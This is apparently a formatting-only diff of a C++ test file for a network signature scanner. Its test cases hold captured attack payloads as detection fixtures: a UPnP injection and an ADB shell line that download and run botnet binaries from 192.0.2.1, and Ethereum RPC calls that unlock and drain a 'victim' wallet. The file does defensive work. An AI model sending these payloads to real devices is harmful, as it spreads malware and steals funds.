@@ -1,6 +1,6 @@
-#include <catch2/catch.hpp>
 #include <unistd.h>
 
+#include <catch2/catch.hpp>
 #include <filesystem>
 #include <set>
 #include <string>
@@ -88,9 +88,9 @@ std::string http_post(const std::string& path, const std::string& body,
 }
 
 struct positive {
-  const char* rule;      // the rule that must fire
-  uint16_t port;         // destination port
-  std::string payload;   // what a real client sent (see the capture named in each comment)
+  const char* rule;     // the rule that must fire
+  uint16_t port;        // destination port
+  std::string payload;  // what a real client sent (see the capture named in each comment)
 };
 
 // Bytes real clients sent, copied from the captures made by test/data/make-payload-captures.sh.
@@ -98,8 +98,8 @@ std::vector<positive> positives() {
   const std::string victim = "0x407d73d8a49eeb85d32cf465507dd71d507100c1";
   auto rpc = [](const std::string& method, const std::string& params, int id) {
     // ethers 6 (jsonrpc-ethers.pcap) orders the members method, params, id, jsonrpc.
-    return "{\"method\":\"" + method + "\",\"params\":" + params + ",\"id\":" +
-           std::to_string(id) + ",\"jsonrpc\":\"2.0\"}";
+    return "{\"method\":\"" + method + "\",\"params\":" + params + ",\"id\":" + std::to_string(id) +
+           ",\"jsonrpc\":\"2.0\"}";
   };
   const std::string cnxn_header(
       "CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e\x00\x00\xbc\xb1\xa7\xb1", 24);
@@ -119,16 +119,19 @@ std::vector<positive> positives() {
       "wget -g 192.0.2.1 -l /tmp/.f -r /bins/satori.mips; /tmp/.f huawei.selfrep)</NewStatusURL>"
       "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>";
   const std::string adb_shell =
-      std::string("OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x5a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf"
-                  "\xba\xb1",
-                  24) +
-      std::string("shell:cd /data/local/tmp; busybox wget http://192.0.2.1/ug.arm7 -O .x; chmod "
-                  "777 .x; ./.x\0",
-                  90);
+      std::string(
+          "OPEN\x01\x00\x00\x00\x00\x00\x00\x00\x5a\x00\x00\x00\x00\x00\x00\x00\xb0\xaf"
+          "\xba\xb1",
+          24) +
+      std::string(
+          "shell:cd /data/local/tmp; busybox wget http://192.0.2.1/ug.arm7 -O .x; chmod "
+          "777 .x; ./.x\0",
+          90);
   return {
       {"eth-accounts", 8545, http_post("/", rpc("eth_accounts", "[]", 1))},
       {"eth-blocknumber", 8545, http_post("/", rpc("eth_blockNumber", "[]", 2))},
-      {"eth-getbalance", 8545, http_post("/", rpc("eth_getBalance", "[\"" + victim + "\",\"latest\"]", 3))},
+      {"eth-getbalance", 8545,
+       http_post("/", rpc("eth_getBalance", "[\"" + victim + "\",\"latest\"]", 3))},
       {"net-version", 8545, http_post("/", rpc("net_version", "[]", 4))},
       {"web3-clientversion", 8545, http_post("/", rpc("web3_clientVersion", "[]", 5))},
       // curl -d (jsonrpc-curl.pcap) puts jsonrpc first.
@@ -140,9 +143,9 @@ std::vector<positive> positives() {
       {"personal-unlockaccount", 8545,
        http_post("/", rpc("personal_unlockAccount", "[\"" + victim + "\",\"123456\",0]", 6))},
       {"eth-sendtransaction", 8545,
-       http_post("/", rpc("eth_sendTransaction", "[{\"from\":\"" + victim +
-                                                      "\",\"to\":\"0xcdcd\",\"value\":\"0x1\"}]",
-                          9))},
+       http_post("/",
+                 rpc("eth_sendTransaction",
+                     "[{\"from\":\"" + victim + "\",\"to\":\"0xcdcd\",\"value\":\"0x1\"}]", 9))},
       {"eth-signtransaction", 8545, http_post("/", rpc("eth_signTransaction", "[{}]", 9))},
       {"personal-sendtransaction", 8545,
        http_post("/", rpc("personal_sendTransaction", "[{},\"pw\"]", 9))},
@@ -150,12 +153,14 @@ std::vector<positive> positives() {
       {"miner-setetherbase", 8545, http_post("/", rpc("miner_setEtherbase", "[\"0xcdcd\"]", 11))},
       {"miner-start", 8545, http_post("/", rpc("miner_start", "[1]", 12))},
       {"jsonrpc-batch", 8545,
-       http_post("/", "[" + rpc("eth_accounts", "[]", 1) + "," + rpc("net_version", "[]", 2) + "]")},
+       http_post("/",
+                 "[" + rpc("eth_accounts", "[]", 1) + "," + rpc("net_version", "[]", 2) + "]")},
       // nc with the Claymore request (claymore.pcap), as in the report of January 2018.
       {"claymore-getstat1", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n"},
       {"claymore-getstat2", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat2\"}\n"},
       {"claymore-file", 3333,
-       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_file\",\"params\":[\"reboot.bat\",\"\"]}\n"},
+       "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_file\",\"params\":[\"reboot.bat\",\"\"]}"
+       "\n"},
       {"claymore-restart", 3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_restart\"}\n"},
       {"claymore-control-gpu", 3333,
        "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"control_gpu\",\"params\":[0, 1]}\n"},
@@ -210,7 +215,8 @@ TEST_CASE("benign look-alikes fire no rule", "[signatures]") {
       {37215,
        "POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><s:Envelope>"
        "<s:Body><u:GetExternalIPAddress/></s:Body></s:Envelope>"},
-      {8545, http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"params\":[],\"id\":7}")},
+      {8545,
+       http_post("/", "{\"jsonrpc\":\"2.0\",\"method\":\"eth_gasPrice\",\"params\":[],\"id\":7}")},
       {8545, http_post("/", "{\"accounts\":[],\"note\":\"eth_accounts is a method name\"}")},
       {8545, http_post("/api", "{\"items\":[{\"id\":1},{\"id\":2}]}")},
       {3333, "GET / HTTP/1.0\r\n\r\n"},
@@ -244,8 +250,7 @@ TEST_CASE("signatures split over TCP segments match in stream mode", "[signature
     connection c(*scanner, 8545);
     CHECK(c.send("POST / HTTP/1.1\r\nContent-Length: 60\r\n\r\n").empty());
     CHECK(c.send("{\"jsonrpc\":\"2.0\",\"method\":\"personal_unlo").empty());
-    CHECK(c.send("ckAccount\",\"params\":[]}") ==
-          std::set<std::string>{"personal-unlockaccount"});
+    CHECK(c.send("ckAccount\",\"params\":[]}") == std::set<std::string>{"personal-unlockaccount"});
   }
   SECTION("each connection counts a rule once") {
     connection c(*scanner, 8545);
@@ -307,8 +312,8 @@ TEST_CASE("rules Hyperscan rejects stop start-up with its message", "[signatures
 }
 
 TEST_CASE("a compiled database is cached and loaded on the next start", "[signatures]") {
-  const auto dir = std::filesystem::temp_directory_path() /
-                   ("scanscope-hs-cache-" + std::to_string(::getpid()));
+  const auto dir =
+      std::filesystem::temp_directory_path() / ("scanscope-hs-cache-" + std::to_string(::getpid()));
   std::filesystem::remove_all(dir);
   std::string error;
   auto first = signature_db::load(rules_path, dir.string(), error);
